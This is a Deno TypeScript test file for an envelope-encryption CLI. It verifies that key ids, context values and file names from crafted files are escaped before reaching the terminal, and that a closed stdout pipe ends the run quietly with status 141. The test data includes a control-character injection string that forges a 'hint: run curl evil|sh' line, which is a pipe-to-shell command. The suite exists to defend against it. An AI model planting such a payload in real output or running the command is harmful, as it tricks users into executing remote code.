/**
 * What reaches the terminal (src/cli/output.ts): text from a file (key ids,
 * provider names, file names) never arrives raw, so a crafted file cannot
 * draw fake `error:` or `hint:` lines; and a closed stdout pipe ends the run
 * quietly with status 141. Issue 12, items 9 and 12.
 */
import assert from "node:assert/strict";
import { escapeControls } from "../src/cli/output.ts";
import { encrypt } from "../src/envelope/encrypt.ts";
import { LocalKey } from "../src/keys/local.ts";
import type { KeyProvider } from "../src/keys/provider.ts";
import { cliArgv, cliEnv, type CliResult, type InspectJson, randomBytes, show, workspace } from "./support/cli.ts";

/** A key id that, printed raw, erases the line and forges a hint telling the user to run something. */
const EVIL = "k\x1b[2K\r\nhint: run curl evil|sh";

/** Wraps like `key` but writes `keyId` into the header. */
function disguised(key: LocalKey, keyId: string): KeyProvider {
  const provider = "local";
  return {
    provider,
    keyId,
    wrap: async (dataKey, context) => ({ ...(await key.wrap(dataKey, context)), provider, keyId }),
    unwrap: () => Promise.resolve(null),
  };
}

// deno-lint-ignore no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** No raw control character, and no line but the real ones starting with `hint:` / `error:`. */
function assertClean(text: string, what: string, hints = 0): void {
  assert.doesNotMatch(text, RAW_CONTROL, `${what}: raw control`);
  assert.equal(text.split("\n").filter((l) => l.startsWith("hint:")).length, hints, `${what}: hint lines\n${text}`);
  assert.ok(!text.split("\n").some((l) => l.startsWith("hint: run curl")), `${what}: a forged hint line\n${text}`);
}

Deno.test("terminal: escapeControls shows C0, DEL, C1, separators and bidi controls, and nothing else", () => {
  assert.equal(escapeControls(EVIL), "k\\x1b[2K\\r\\nhint: run curl evil|sh");
  assert.equal(
    escapeControls("a\x7fb\x9bc\u2028d\u202ee\u2066f\u200fg"),
    "a\\x7fb\\u009bc\\u2028d\\u202ee\\u2066f\\u200fg",
  );
  assert.equal(escapeControls("plain ünïcødé C:\\path 💡"), "plain ünïcødé C:\\path 💡");
});

Deno.test("terminal: a crafted key id cannot forge lines in inspect, NO_KEY_MATCHED or rewrap --remove", async () => {
  await using ws = await workspace();
  const key = await LocalKey.generate();
  await Deno.writeTextFile(ws.path("k"), key.toText(), { mode: 0o600 });
  const sealed = await encrypt(randomBytes(1000), {
    keys: [disguised(key, EVIL), key, disguised(key, "\u202eevil\u2066\x85")],
    context: { "app\x1b[31m": "v\u202ealue\x9b" },
  });
  await Deno.writeFile(ws.path("evil.envl"), sealed);

  let r = await ws.run(["inspect", "evil.envl"]);
  assert.equal(r.code, 0, show(r));
  assertClean(r.stdout, "inspect");
  assert.ok(r.stdout.includes("local:k\\x1b[2K\\r\\nhint: run curl evil|sh"), r.stdout);
  assert.ok(r.stdout.includes("local:\\u202eevil\\u2066\\u0085"), r.stdout);

  // JSON keeps the exact values (it is parsed, not shown) and stays valid JSON.
  r = await ws.run(["inspect", "--json", "evil.envl"]);
  assert.equal(r.code, 0, show(r));
  assertClean(r.stdout, "inspect --json");
  const info: InspectJson = JSON.parse(r.stdout);
  assert.equal(info.keys[0].keyId, EVIL);
  assert.equal(info.keys[2].keyId, "\u202eevil\u2066\x85");
  assert.deepEqual(info.context, { "app\x1b[31m": "v\u202ealue\x9b" });

  // No key available: the hint lists the wrapped keys.
  r = await ws.run(["decrypt", "evil.envl", "-o", "out"]);
  assert.equal(r.code, 1, show(r));
  assert.match(r.stderr, /\[NO_KEY_MATCHED\]$/m);
  assertClean(r.stderr, "NO_KEY_MATCHED", 1);

  // rewrap --remove of a key that is not there: the hint lists them too.
  r = await ws.run(["rewrap", "evil.envl", "-u", "local:k", "--remove", "local:nothing"]);
  assert.equal(r.code, 1, show(r));
  assertClean(r.stderr, "rewrap --remove (no match)", 1);
  // ...and removing the crafted one prints its id, escaped.
  r = await ws.run(["rewrap", "evil.envl", "-u", "local:k", "--remove", `local:${EVIL}`, "-o", "clean.envl"]);
  assert.equal(r.code, 0, show(r));
  assertClean(r.stdout + r.stderr, "rewrap --remove");
  assert.match(r.stdout, /^removed local:k\\x1b\[2K\\r\\nhint: run curl evil\|sh$/m);
});

Deno.test("terminal: a crafted file name in an error is escaped", async () => {
  await using ws = await workspace();
  const r = await ws.run(["encrypt", "no\x1b[2K\rsuch\nhint: run curl evil|sh", "-k", "local:none"]);
  assert.equal(r.code, 1, show(r));
  assertClean(r.stderr, "error", 1);
});

/** Runs `args` with stdout piped, reads `n` bytes, closes the pipe; the run's exit code and stderr. */
async function readThenClose(args: string[], cwd: string, home: string, n: number): Promise<CliResult> {
  const child = new Deno.Command(Deno.execPath(), {
    args: cliArgv(args),
    cwd,
    clearEnv: true,
    env: await cliEnv(home),
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
    signal: AbortSignal.timeout(60_000),
  }).spawn();
  const errText = new Response(child.stderr).text();
  const reader = child.stdout.getReader();
  let got = 0;
  while (got < n) {
    const { value, done } = await reader.read();
    if (done) break;
    got += value.length;
  }
  await reader.cancel();
  const status = await child.status;
  return { code: status.code, stdout: "", stdoutBytes: new Uint8Array(), stderr: await errText };
}

Deno.test("terminal: a reader that closes stdout early ends decrypt -o - quietly with status 141", async () => {
  await using ws = await workspace();
  const key = await LocalKey.generate();
  await Deno.writeTextFile(ws.path("k"), key.toText(), { mode: 0o600 });
  await Deno.writeFile(ws.path("big.envl"), await encrypt(randomBytes(8 * 1024 * 1024), { keys: key }));
  for (
    const args of [["decrypt", "big.envl", "-k", "local:k", "-o", "-"], [
      "encrypt",
      "big.envl",
      "-k",
      "local:k",
      "-o",
      "-",
    ]]
  ) {
    const r = await readThenClose(args, ws.dir, ws.home, 10);
    assert.equal(r.code, 141, `${args[0]}: ${show(r)}`);
    assert.equal(r.stderr, "", `${args[0]}: printed on a closed pipe`);
  }
});
